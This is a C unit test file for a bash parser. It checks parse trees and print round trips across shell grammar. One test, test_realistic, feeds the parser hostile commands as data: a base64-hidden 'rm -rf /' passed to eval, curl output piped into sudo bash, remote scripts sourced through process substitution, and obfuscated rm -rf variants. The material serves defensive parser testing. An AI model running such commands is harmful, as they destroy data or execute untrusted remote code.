/* test_parse.c - the bash parser (src/shell/sh_*.c): every construct is
 * parsed and its tree compared, as an S-expression, with what bash's
 * grammar says it is; every input that parses must also print as text that
 * parses back to an equal tree. Shell text here is data for the parser
 * only; nothing is executed.
 *
 * In expected trees a ' stands for a " so the strings stay readable; use
 * expect_raw() when the tree itself holds a '. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "shell/sh_ast.h"

static struct av_arena arena;

static int setup(void **state)
{
	(void)state;
	av_arena_init(&arena, AV_ARENA_DEFAULT_CAP);
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	av_arena_free(&arena);
	return 0;
}

/* Parses src, prints it, parses the print and checks the trees are equal
 * and that printing is a fixed point. Returns the tree. */
static struct av_sh_node *parse_rt(const char *src, size_t len)
{
	struct av_sh_node *t = NULL, *t2 = NULL, *t3 = NULL;
	struct av_sh_error err;
	if (av_sh_parse(src, len, NULL, &arena, &t, &err) != 0)
		fail_msg("parse failed: %s\ninput: %s", err.message, src);
	char *p1, *p2;
	size_t l1, l2;
	assert_int_equal(av_sh_print(t, &arena, &p1, &l1), 0);
	if (av_sh_parse(p1, l1, NULL, &arena, &t2, &err) != 0)
		fail_msg("reparse failed: %s\nprinted: %s", err.message, p1);
	if (!av_sh_equal(t, t2)) {
		char *d1, *d2;
		size_t n;
		av_sh_dump(t, &arena, &d1, &n);
		av_sh_dump(t2, &arena, &d2, &n);
		fail_msg("round trip differs\ninput:   %s\nprinted: %s\nfirst:   "
		         "%s\nsecond:  %s",
		         src, p1, d1, d2);
	}
	assert_int_equal(av_sh_print(t2, &arena, &p2, &l2), 0);
	assert_int_equal(l1, l2);
	assert_memory_equal(p1, p2, l1);
	(void)t3;
	return t;
}

static const char *dump_of(const char *src)
{
	struct av_sh_node *t = parse_rt(src, strlen(src));
	char *d;
	size_t n;
	assert_int_equal(av_sh_dump(t, &arena, &d, &n), 0);
	return d;
}

static void expect_raw(const char *src, const char *want)
{
	const char *got = dump_of(src);
	if (strcmp(got, want) != 0)
		fail_msg("input: %s\nwant:  %s\ngot:   %s", src, want, got);
}

static void expect(const char *src, const char *want_sq)
{
	char want[4096];
	size_t n = strlen(want_sq);
	assert_true(n < sizeof(want));
	for (size_t i = 0; i <= n; i++)
		want[i] = want_sq[i] == '\'' ? '"' : want_sq[i];
	expect_raw(src, want);
}

/* ---- lists, pipelines, simple commands ---- */

static void test_simple(void **state)
{
	(void)state;
	expect("ls -la /tmp", "(list (cmd 'ls' '-la' '/tmp'))");
	expect("", "(list)");
	expect("  \n\n  ", "(list)");
	expect("echo if then fi { } done esac",
	       "(list (cmd 'echo' 'if' 'then' 'fi' '{' '}' 'done' 'esac'))");
	expect("a # comment\n# whole line\nb", "(list (cmd 'a') (cmd 'b'))");
	expect("echo a#b", "(list (cmd 'echo' 'a#b'))");
}

static void test_lists(void **state)
{
	(void)state;
	expect("a; b & c\nd", "(list (cmd 'a') (cmd 'b') & (cmd 'c') (cmd 'd'))");
	expect("a &", "(list (cmd 'a') &)");
	expect("a && b || c", "(list (andor (cmd 'a') && (cmd 'b') || (cmd 'c')))");
	expect("a &&\n\n b", "(list (andor (cmd 'a') && (cmd 'b')))");
	expect("a | b |& c", "(list (pipe (cmd 'a') (cmd 'b') |& (cmd 'c')))");
	expect("a |\n b", "(list (pipe (cmd 'a') (cmd 'b')))");
	expect("a | b && c | d &", "(list (andor (pipe (cmd 'a') (cmd 'b')) && (pipe "
	                           "(cmd 'c') (cmd 'd'))) &)");
}

static void test_bang_time(void **state)
{
	(void)state;
	expect("! a | b", "(list (not (pipe (cmd 'a') (cmd 'b'))))");
	expect("! ! a", "(list (not (not (cmd 'a'))))");
	expect("time -p a | b", "(list (time -p (pipe (cmd 'a') (cmd 'b'))))");
	expect("time ! a", "(list (time (not (cmd 'a'))))");
	expect("time", "(list (time))");
	expect("!", "(list (not))");
	expect("a=b time", "(list (cmd (assign 'a' 'b') 'time'))");
	expect("echo !x", "(list (cmd 'echo' '!x'))");
}

static void test_assignments(void **state)
{
	(void)state;
	expect("a=1 b= c+=x env", "(list (cmd (assign 'a' '1') (assign 'b' (word)) "
	                          "(assign 'c' += 'x') 'env'))");
	expect("a=(x \"y z\" [k]=v) a+=(w) a[i+1]=v",
	       "(list (cmd (assign 'a' (array 'x' (word (dq (lit 'y z'))) (elem (sub "
	       "'k') 'v'))) "
	       "(assign 'a' += (array 'w')) (assign 'a' (sub 'i+1') 'v')))");
	expect("a=(\n x # c\n y\n)", "(list (cmd (assign 'a' (array 'x' 'y'))))");
	expect("a=()", "(list (cmd (assign 'a' (array))))");
	expect("m=([k]+=v)", "(list (cmd (assign 'm' (array (elem += (sub 'k') 'v')))))");
	expect("declare -A m=([k]=v [j]=w); local x=(1 2) y",
	       "(list (cmd 'declare' '-A' (assign 'm' (array (elem (sub 'k') 'v') (elem "
	       "(sub 'j') 'w')))) "
	       "(cmd 'local' (assign 'x' (array '1' '2')) 'y'))");
	expect("export A=1 B", "(list (cmd 'export' (assign 'A' '1') 'B'))");
	expect("echo a=b", "(list (cmd 'echo' 'a=b'))");
	expect("a[$i]=1", "(list (cmd (assign 'a' (sub (word (param 'i'))) '1')))");
	expect("a[x y]=1", "(list (cmd (assign 'a' (sub 'x y') '1')))");
	expect(">f a=1 cmd", "(list (cmd (redir '>' 'f') (assign 'a' '1') 'cmd'))");
	expect("PATH=~/bin:~x/y:a~", "(list (cmd (assign 'PATH' (word (tilde '') (lit "
	                             "'/bin:') (tilde 'x') (lit '/y:a~')))))");
	expect("1a=b", "(list (cmd '1a=b'))");
}

/* ---- compound commands ---- */

static void test_if(void **state)
{
	(void)state;
	expect("if a; then b; fi", "(list (if (list (cmd 'a')) (list (cmd 'b'))))");
	expect("if a; then b; elif c; then d; else e; fi",
	       "(list (if (list (cmd 'a')) (list (cmd 'b')) (list (cmd 'c')) (list (cmd "
	       "'d')) "
	       "(list (cmd 'e'))))");
	expect("if a\nthen\n b\n c\nelse d\nfi >out",
	       "(list (if (list (cmd 'a')) (list (cmd 'b') (cmd 'c')) (list (cmd 'd')) "
	       "(redir '>' 'out')))");
	expect("if ! a && b; then :; fi", "(list (if (list (andor (not (cmd 'a')) && "
	                                  "(cmd 'b'))) (list (cmd ':'))))");
}

static void test_loops(void **state)
{
	(void)state;
	expect("while a; do b; done", "(list (while (list (cmd 'a')) (list (cmd 'b'))))");
	expect("until a; do b; done 2>/dev/null",
	       "(list (until (list (cmd 'a')) (list (cmd 'b')) (redir 2 '>' "
	       "'/dev/null')))");
	expect("while read -r l; do echo \"$l\"; done < f",
	       "(list (while (list (cmd 'read' '-r' 'l')) (list (cmd 'echo' (word (dq "
	       "(param 'l'))))) "
	       "(redir '<' 'f')))");
	expect("for x in a b; do c; done",
	       "(list (for 'x' :in 'a' 'b' (list (cmd 'c'))))");
	expect("for x in; do c; done", "(list (for 'x' :in (list (cmd 'c'))))");
	expect("for x; do c; done", "(list (for 'x' (list (cmd 'c'))))");
	expect("for x do c; done", "(list (for 'x' (list (cmd 'c'))))");
	expect("for x\ndo c\ndone", "(list (for 'x' (list (cmd 'c'))))");
	expect("for x in a\ndo c; done", "(list (for 'x' :in 'a' (list (cmd 'c'))))");
	expect("for x in a; { c; }", "(list (for 'x' :in 'a' (list (cmd 'c'))))");
	expect("for ((i=0; i<3; i++)); do c; done",
	       "(list (for-arith 'i=0' ' i<3' ' i++' (list (cmd 'c'))))");
	expect("for ((;;)) do :; done",
	       "(list (for-arith (word) (word) (word) (list (cmd ':'))))");
	expect("select x in a b; do c; done",
	       "(list (select 'x' :in 'a' 'b' (list (cmd 'c'))))");
}

static void test_case(void **state)
{
	(void)state;
	expect("case $x in a|b) c;; (d) e;& *) f;;& esac",
	       "(list (case (word (param 'x')) (item ';;' 'a' 'b' (list (cmd 'c'))) "
	       "(item ';&' 'd' (list (cmd 'e'))) (item ';;&' (word (glob '*')) (list "
	       "(cmd 'f')))))");
	expect("case x in a) esac", "(list (case 'x' (item ';;' 'a' (list))))");
	expect("case x in esac", "(list (case 'x'))");
	expect("case x\nin\n a)\n  b\n  ;;\n (esac) c;;\nesac",
	       "(list (case 'x' (item ';;' 'a' (list (cmd 'b'))) (item ';;' 'esac' (list "
	       "(cmd 'c')))))");
	expect("case $f in *.tar.gz|@(x|y)) tar xzf \"$f\";; esac",
	       "(list (case (word (param 'f')) (item ';;' (word (glob '*') (lit "
	       "'.tar.gz')) (word (glob '@(x|y)')) "
	       "(list (cmd 'tar' 'xzf' (word (dq (param 'f'))))))))");
}

static void test_groups(void **state)
{
	(void)state;
	expect("{ a; b; } > f",
	       "(list (group (list (cmd 'a') (cmd 'b')) (redir '>' 'f')))");
	expect("(a; b) 2>&1",
	       "(list (subshell (list (cmd 'a') (cmd 'b')) (redir 2 '>&' '1')))");
	expect("a && { b; } || ( c ) | d",
	       "(list (andor (cmd 'a') && (group (list (cmd 'b'))) || (pipe (subshell "
	       "(list (cmd 'c'))) (cmd 'd'))))");
	expect("{ a & }", "(list (group (list (cmd 'a') &)))");
	expect("((a) )", "(list (subshell (list (subshell (list (cmd 'a'))))))");
	expect("( (a) )", "(list (subshell (list (subshell (list (cmd 'a'))))))");
	expect("{(a)}", "(list (group (list (subshell (list (cmd 'a'))))))");
}

static void test_functions(void **state)
{
	(void)state;
	expect("f() { a; }", "(list (function 'f' (group (list (cmd 'a')))))");
	expect("f ( ) \n{ a; }", "(list (function 'f' (group (list (cmd 'a')))))");
	expect("function g { a; } >log",
	       "(list (function 'g' (group (list (cmd 'a')) (redir '>' 'log'))))");
	expect("function h() ( a )", "(list (function 'h' (subshell (list (cmd 'a')))))");
	expect("f() if a; then b; fi",
	       "(list (function 'f' (if (list (cmd 'a')) (list (cmd 'b')))))");
	expect("function a-b.c { :; }",
	       "(list (function 'a-b.c' (group (list (cmd ':')))))");
}

static void test_coproc(void **state)
{
	(void)state;
	expect("coproc a b", "(list (coproc (cmd 'a' 'b')))");
	expect("coproc N { a; }", "(list (coproc 'N' (group (list (cmd 'a')))))");
	expect("coproc { a; }", "(list (coproc (group (list (cmd 'a')))))");
	expect("coproc N while a; do b; done",
	       "(list (coproc 'N' (while (list (cmd 'a')) (list (cmd 'b')))))");
}

static void test_cond(void **state)
{
	(void)state;
	expect("[[ -f x && ( $a == b* || ! $c =~ ^a(b|c)$ ) ]]",
	       "(list (cond (c-and (unary '-f' 'x') (c-group (c-or (binary '==' (word "
	       "(param 'a')) "
	       "(word (lit 'b') (glob '*'))) (c-not (binary '=~' (word (param 'c')) "
	       "'^a(b|c)$')))))))");
	expect("[[ a < b ]]", "(list (cond (binary '<' 'a' 'b')))");
	expect("[[ a > b || x ]]", "(list (cond (c-or (binary '>' 'a' 'b') 'x')))");
	expect("[[ x ]]", "(list (cond 'x'))");
	expect("[[ a -nt b && c -eq 1 && -z $d ]]",
	       "(list (cond (c-and (binary '-nt' 'a' 'b') (binary '-eq' 'c' '1') (unary "
	       "'-z' (word (param 'd'))))))");
	expect("[[ $x =~ (a b) ]]",
	       "(list (cond (binary '=~' (word (param 'x')) '(a b)')))");
	expect("[[ $x =~ \"a b\"* ]]", "(list (cond (binary '=~' (word (param 'x')) "
	                               "(word (dq (lit 'a b')) (glob '*')))))");
	expect("[[ a\n&& b ]]", "(list (cond (c-and 'a' 'b')))");
	expect("[[ ! -d /x ]] > f",
	       "(list (cond (c-not (unary '-d' '/x')) (redir '>' 'f')))");
}

static void test_arith(void **state)
{
	(void)state;
	expect("(( i++ ))", "(list (arith-cmd ' i++ '))");
	expect("((x = (1 + 2) * 3))", "(list (arith-cmd 'x = (1 + 2) * 3'))");
	expect("echo $((1 + $x)) $[2*3] $(( $(f) ))",
	       "(list (cmd 'echo' (word (arith (word (lit '1 + ') (param 'x')))) (word "
	       "(arith '2*3')) "
	       "(word (arith (word (lit ' ') (cmdsub (list (cmd 'f'))) (lit ' '))))))");
	expect("echo $(( (1) + (2) ))",
	       "(list (cmd 'echo' (word (arith ' (1) + (2) '))))");
	expect("echo $( (a) )",
	       "(list (cmd 'echo' (word (cmdsub (list (subshell (list (cmd 'a'))))))))");
	expect("(( a[\"k\"] ))",
	       "(list (arith-cmd (word (lit ' a[') (dq (lit 'k')) (lit '] '))))");
}

/* ---- words ---- */

static void test_quotes(void **state)
{
	(void)state;
	expect("echo 'a b' \"c $d\" \\e $'\\x41\\n' $\"hi\"",
	       "(list (cmd 'echo' (word (sq 'a b')) (word (dq (lit 'c ') (param 'd'))) "
	       "(word (esc 'e')) "
	       "(word (ansi 'A\\n')) (word (locale (lit 'hi')))))");
	expect_raw("echo 'it'\\''s'",
	           "(list (cmd \"echo\" (word (sq \"it\") (esc \"'\") (sq \"s\"))))");
	expect("echo \"a\\\"b\\$c\\\\d\\e\"",
	       "(list (cmd 'echo' (word (dq (lit 'a\\'b$c\\\\d\\\\e')))))");
	expect_raw("echo $'\\101\\u00e9\\cA\\e\\'x'",
	           "(list (cmd \"echo\" (word (ansi \"A\\xc3\\xa9\\x01\\x1b'x\"))))");
	expect("echo a\"b\"'c'd",
	       "(list (cmd 'echo' (word (lit 'a') (dq (lit 'b')) (sq 'c') (lit 'd'))))");
	expect("echo \"\" ''", "(list (cmd 'echo' (word (dq)) (word (sq ''))))");
	expect("ec\\\nho a\\\nb", "(list (cmd 'echo' 'ab'))");
	expect("echo $ a$ \"$\"", "(list (cmd 'echo' '$' 'a$' (word (dq (lit '$')))))");
	expect_raw("echo \"$'x'\"", "(list (cmd \"echo\" (word (dq (lit \"$'x'\")))))");
}

static void test_params(void **state)
{
	(void)state;
	expect("echo ${x} ${x:-w} ${x-w} ${x:=w} ${x=w} ${x:?w} ${x?w} ${x:+w} ${x+w}",
	       "(list (cmd 'echo' (word (param 'x')) (word (param 'x' ':-' 'w')) (word "
	       "(param 'x' '-' 'w')) "
	       "(word (param 'x' ':=' 'w')) (word (param 'x' '=' 'w')) (word (param 'x' "
	       "':?' 'w')) "
	       "(word (param 'x' '?' 'w')) (word (param 'x' ':+' 'w')) (word (param 'x' "
	       "'+' 'w'))))");
	expect("echo ${#x} ${x:1:2} ${x: -1} ${x#p*} ${x##p} ${x%p} ${x%%.*}",
	       "(list (cmd 'echo' (word (param 'x' :length)) (word (param 'x' ':' '1' "
	       "'2')) "
	       "(word (param 'x' ':' ' -1')) (word (param 'x' '#' (word (lit 'p') (glob "
	       "'*')))) "
	       "(word (param 'x' '##' 'p')) (word (param 'x' '%' 'p')) "
	       "(word (param 'x' '%%' (word (lit '.') (glob '*'))))))");
	expect("echo ${x/p/r} ${x//p/r} ${x/#p/r} ${x/%p/r} ${x/p} ${x^} ${x^^} ${x,} "
	       "${x,,p}",
	       "(list (cmd 'echo' (word (param 'x' '/' 'p' 'r')) (word (param 'x' '//' "
	       "'p' 'r')) "
	       "(word (param 'x' '/#' 'p' 'r')) (word (param 'x' '/%' 'p' 'r')) "
	       "(word (param 'x' '/' 'p' (word))) (word (param 'x' '^')) (word (param "
	       "'x' '^^')) "
	       "(word (param 'x' ',')) (word (param 'x' ',,' 'p'))))");
	expect("echo ${!x} ${!pre*} ${!pre@} ${x[i]} ${x[@]} ${x@Q} ${!a[@]}",
	       "(list (cmd 'echo' (word (param 'x' :indirect)) (word (param 'pre' '!*')) "
	       "(word (param 'pre' '!@')) (word (param 'x' (sub 'i'))) (word (param 'x' "
	       "(sub '@'))) "
	       "(word (param 'x' '@Q')) (word (param 'a' :indirect (sub '@')))))");
	expect("echo $1 ${10} $10 $@ $# $? $$ $! $- $0 $_x ${#} ${#-}",
	       "(list (cmd 'echo' (word (param '1')) (word (param '10')) (word (param "
	       "'1') (lit '0')) "
	       "(word (param '@')) (word (param '#')) (word (param '?')) (word (param "
	       "'$')) "
	       "(word (param '!')) (word (param '-')) (word (param '0')) (word (param "
	       "'_x')) "
	       "(word (param '#')) (word (param '-' :length))))");
	expect("echo \"${x:-\"a b\"}\" \"${x#*/}\" ${x:-a b}",
	       "(list (cmd 'echo' (word (dq (param 'x' ':-' (word (dq (lit 'a b')))))) "
	       "(word (dq (param 'x' '#' (word (glob '*') (lit '/'))))) (word (param 'x' "
	       "':-' 'a b'))))");
	expect("echo ${x:-${y:-$(z)}}",
	       "(list (cmd 'echo' (word (param 'x' ':-' (word (param 'y' ':-' (word "
	       "(cmdsub (list (cmd 'z'))))))))))");
	expect("echo ${x:-~/a}", "(list (cmd 'echo' (word (param 'x' ':-' (word (tilde "
	                         "'') (lit '/a'))))))");
}

static void test_substitutions(void **state)
{
	(void)state;
	expect("echo $(a b) `c`", "(list (cmd 'echo' (word (cmdsub (list (cmd 'a' "
	                          "'b')))) (word (cmdsub (list (cmd 'c'))))))");
	expect("echo `echo \\`echo hi\\``",
	       "(list (cmd 'echo' (word (cmdsub (list (cmd 'echo' (word (cmdsub (list "
	       "(cmd 'echo' 'hi'))))))))))");
	expect("echo \"`echo \\\"x\\\"`\"", "(list (cmd 'echo' (word (dq (cmdsub (list "
	                                    "(cmd 'echo' (word (dq (lit 'x'))))))))))");
	expect("echo $(case x in a) b;; esac)",
	       "(list (cmd 'echo' (word (cmdsub (list (case 'x' (item ';;' 'a' (list "
	       "(cmd 'b')))))))))");
	expect("echo \"$(echo \"${x:-$(date)}\")\"",
	       "(list (cmd 'echo' (word (dq (cmdsub (list (cmd 'echo' (word (dq (param "
	       "'x' ':-' "
	       "(word (cmdsub (list (cmd 'date'))))))))))))))");
	expect("diff <(a) >(b)", "(list (cmd 'diff' (word (procsub '<' (list (cmd "
	                         "'a')))) (word (procsub '>' (list (cmd 'b'))))))");
	expect("cat > >(tee x)", "(list (cmd 'cat' (redir '>' (word (procsub '>' (list "
	                         "(cmd 'tee' 'x')))))))");
	expect("echo $()", "(list (cmd 'echo' (word (cmdsub (list)))))");
}

static void test_tilde_glob(void **state)
{
	(void)state;
	expect("echo ~ ~/x ~root ~+ a~ \"~\" ~\"x\" \\~",
	       "(list (cmd 'echo' (word (tilde '')) (word (tilde '') (lit '/x')) (word "
	       "(tilde 'root')) "
	       "(word (tilde '+')) 'a~' (word (dq (lit '~'))) (word (lit '~') (dq (lit "
	       "'x'))) (word (esc '~'))))");
	expect("ls *.c a?b [ab] {a,b} {1..3} @(x|y) !(z) +(a) x*(b)",
	       "(list (cmd 'ls' (word (glob '*') (lit '.c')) (word (lit 'a') (glob '?') "
	       "(lit 'b')) "
	       "(word (glob '[') (lit 'ab]')) '{a,b}' '{1..3}' (word (glob '@(x|y)')) "
	       "(word (glob '!(z)')) "
	       "(word (glob '+(a)')) (word (lit 'x') (glob '*(b)'))))");
	expect("ls \"*\" '*' \\*", "(list (cmd 'ls' (word (dq (lit '*'))) (word (sq "
	                           "'*')) (word (esc '*'))))");
}

static void test_redirections(void **state)
{
	(void)state;
	expect("cmd <a >b >>c >|d <>e 2>&1 3<&- >&f &>g &>>h {fd}>i <<<w 0<j 10>k",
	       "(list (cmd 'cmd' (redir '<' 'a') (redir '>' 'b') (redir '>>' 'c') (redir "
	       "'>|' 'd') "
	       "(redir '<>' 'e') (redir 2 '>&' '1') (redir 3 '<&' '-') (redir '>&' 'f') "
	       "(redir '&>' 'g') "
	       "(redir '&>>' 'h') (redir {fd} '>' 'i') (redir '<<<' 'w') (redir 0 '<' "
	       "'j') (redir 10 '>' 'k')))");
	expect("echo 2 >x a2>y",
	       "(list (cmd 'echo' '2' (redir '>' 'x') 'a2' (redir '>' 'y')))");
	expect("exec {fd}<>/dev/null {x}>&-",
	       "(list (cmd 'exec' (redir {fd} '<>' '/dev/null') (redir {x} '>&' '-')))");
	expect("> f", "(list (cmd (redir '>' 'f')))");
	expect("cat <<< \"$x\"",
	       "(list (cmd 'cat' (redir '<<<' (word (dq (param 'x'))))))");
}

static void test_heredocs(void **state)
{
	(void)state;
	expect("cat <<EOF\nhello $x\nEOF\n",
	       "(list (cmd 'cat' (redir '<<' 'EOF' (word (lit 'hello ') (param 'x') (lit "
	       "'\\n')))))");
	expect("cat <<'EOF'\n$x\nEOF\n",
	       "(list (cmd 'cat' (redir '<<' :quoted 'EOF' '$x\\n')))");
	expect("cat <<\"E F\"\n$x\nE F\n",
	       "(list (cmd 'cat' (redir '<<' :quoted 'E F' '$x\\n')))");
	expect("cat <<E\\OF\n$x\nEOF\n",
	       "(list (cmd 'cat' (redir '<<' :quoted 'EOF' '$x\\n')))");
	expect("cat <<-E\n\t\ta\n\tb\n\tE\n",
	       "(list (cmd 'cat' (redir '<<-' 'E' 'a\\nb\\n')))");
	expect("cat <<A <<B\na\nA\nb\nB\n",
	       "(list (cmd 'cat' (redir '<<' 'A' 'a\\n') (redir '<<' 'B' 'b\\n')))");
	expect("cat <<A; cat <<B\na\nA\nb\nB\necho c",
	       "(list (cmd 'cat' (redir '<<' 'A' 'a\\n')) (cmd 'cat' (redir '<<' 'B' "
	       "'b\\n')) (cmd 'echo' 'c'))");
	expect("echo $(cat <<E\nx\nE\n)", "(list (cmd 'echo' (word (cmdsub (list (cmd "
	                                  "'cat' (redir '<<' 'E' 'x\\n')))))))");
	expect("cat <<E\n\\$x \\\\ \\a `b`\nE\n",
	       "(list (cmd 'cat' (redir '<<' 'E' (word (lit '$x \\\\ \\\\a ') (cmdsub "
	       "(list (cmd 'b'))) (lit '\\n')))))");
	expect("cat <<E\nabc", "(list (cmd 'cat' (redir '<<' 'E' 'abc\\n')))");
	expect("cat <<E", "(list (cmd 'cat' (redir '<<' 'E' (word))))");
	expect("cat <<E\nEOF\n E\nE\n",
	       "(list (cmd 'cat' (redir '<<' 'E' 'EOF\\n E\\n')))");
	expect("cat <<E | grep x\nbody\nE\n",
	       "(list (pipe (cmd 'cat' (redir '<<' 'E' 'body\\n')) (cmd 'grep' 'x')))");
	expect("if cat <<E; then :; fi\nb\nE\n",
	       "(list (if (list (cmd 'cat' (redir '<<' 'E' 'b\\n'))) (list (cmd ':'))))");
	expect("cat <<E\na\\\nE\nE\n", "(list (cmd 'cat' (redir '<<' 'E' 'aE\\n')))");
	expect("cat <<'E'\na\\\nE\n",
	       "(list (cmd 'cat' (redir '<<' :quoted 'E' 'a\\\\\\n')))");
}

/* What attackers and careless agents write parses like anything else. */
static void test_realistic(void **state)
{
	(void)state;
	expect("eval \"$(echo cm0gLXJmIC8K | base64 -d)\"",
	       "(list (cmd 'eval' (word (dq (cmdsub (list (pipe (cmd 'echo' "
	       "'cm0gLXJmIC8K') (cmd 'base64' '-d'))))))))");
	expect("curl -s http://x/i.sh | sudo bash -s --",
	       "(list (pipe (cmd 'curl' '-s' 'http://x/i.sh') (cmd 'sudo' 'bash' '-s' "
	       "'--')))");
	expect("r${x}m -rf /tmp/d; {rm,-rf,/tmp/e}",
	       "(list (cmd (word (lit 'r') (param 'x') (lit 'm')) '-rf' '/tmp/d') (cmd "
	       "'{rm,-rf,/tmp/e}'))");
	expect("bash <<< \"$(curl -s x)\"", "(list (cmd 'bash' (redir '<<<' (word (dq "
	                                    "(cmdsub (list (cmd 'curl' '-s' 'x'))))))))");
	expect("source <(curl -s x)",
	       "(list (cmd 'source' (word (procsub '<' (list (cmd 'curl' '-s' 'x'))))))");
	expect("a=r;b=m;$a$b -rf /tmp/f",
	       "(list (cmd (assign 'a' 'r')) (cmd (assign 'b' 'm')) (cmd (word (param "
	       "'a') (param 'b')) '-rf' '/tmp/f'))");
	expect("IFS=,;x=rm,-rf;$x", "(list (cmd (assign 'IFS' ',')) (cmd (assign 'x' "
	                            "'rm,-rf')) (cmd (word (param 'x'))))");
	expect("nohup sh -c 'echo x' >/dev/null 2>&1 &",
	       "(list (cmd 'nohup' 'sh' '-c' (word (sq 'echo x')) (redir '>' "
	       "'/dev/null') (redir 2 '>&' '1')) &)");
}

/* Offsets point at the source text. */
static void test_offsets(void **state)
{
	(void)state;
	const char *src = "echo  hi | cat";
	struct av_sh_node *t = parse_rt(src, strlen(src));
	const struct av_sh_node *pipe = t->kids;
	assert_int_equal(pipe->kind, AV_SH_PIPELINE);
	const struct av_sh_node *echo = pipe->kids, *hi = echo->kids->next;
	assert_int_equal(hi->start, 6);
	assert_int_equal(hi->end, 8);
	assert_int_equal(echo->next->start, 11);
	/* After a line continuation offsets still count input bytes. */
	src = "a\\\nb c";
	t = parse_rt(src, strlen(src));
	assert_int_equal(t->kids->kids->next->start, 5);
}

/* The parser is re-entrant: the evaluator parses text it found in a tree. */
static void test_reparse_inner(void **state)
{
	(void)state;
	const char *src = "bash -c 'echo $(id) | cat'";
	struct av_sh_node *t = parse_rt(src, strlen(src));
	const struct av_sh_node *arg = t->kids->kids->next->next;
	assert_int_equal(arg->kids->kind, AV_SH_SQ);
	struct av_sh_node *inner;
	struct av_sh_error err;
	assert_int_equal(
	        av_sh_parse(arg->kids->text, arg->kids->len, NULL, &arena, &inner, &err),
	        0);
	char *d;
	size_t n;
	av_sh_dump(inner, &arena, &d, &n);
	assert_string_equal(d, "(list (pipe (cmd \"echo\" (word (cmdsub (list (cmd "
	                       "\"id\"))))) (cmd \"cat\")))");
}

/* Printing: canonical text for a few trees (the round trip is checked on
 * every input above). */
static void test_print(void **state)
{
	(void)state;
	const struct {
		const char *in, *out;
	} cases[] = {
		{ "a;b&c", "a\nb &\nc\n" },
		{ "echo `x` $y", "echo $(x) ${y}\n" },
		{ "if a\nthen b\nfi", "if a; then b; fi\n" },
		{ "case x in a) b;; esac", "case x in (a) b ;; esac\n" },
		{ "f() { :; }", "function f () { :; }\n" },
		{ "cat <<E; echo\nx\nE", "cat <<E\nx\nE\necho\n" },
		{ "echo $( (a) )", "echo $( ( a ))\n" },
		{ "echo $'a\\tb'", "echo $'a\\x09b'\n" },
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct av_sh_node *t = parse_rt(cases[i].in, strlen(cases[i].in));
		char *p;
		size_t n;
		assert_int_equal(av_sh_print(t, &arena, &p, &n), 0);
		if (strcmp(p, cases[i].out) != 0)
			fail_msg("input: %s\nwant: %s\ngot:  %s", cases[i].in,
			         cases[i].out, p);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_simple),
		cmocka_unit_test(test_lists),
		cmocka_unit_test(test_bang_time),
		cmocka_unit_test(test_assignments),
		cmocka_unit_test(test_if),
		cmocka_unit_test(test_loops),
		cmocka_unit_test(test_case),
		cmocka_unit_test(test_groups),
		cmocka_unit_test(test_functions),
		cmocka_unit_test(test_coproc),
		cmocka_unit_test(test_cond),
		cmocka_unit_test(test_arith),
		cmocka_unit_test(test_quotes),
		cmocka_unit_test(test_params),
		cmocka_unit_test(test_substitutions),
		cmocka_unit_test(test_tilde_glob),
		cmocka_unit_test(test_redirections),
		cmocka_unit_test(test_heredocs),
		cmocka_unit_test(test_realistic),
		cmocka_unit_test(test_offsets),
		cmocka_unit_test(test_reparse_inner),
		cmocka_unit_test(test_print),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
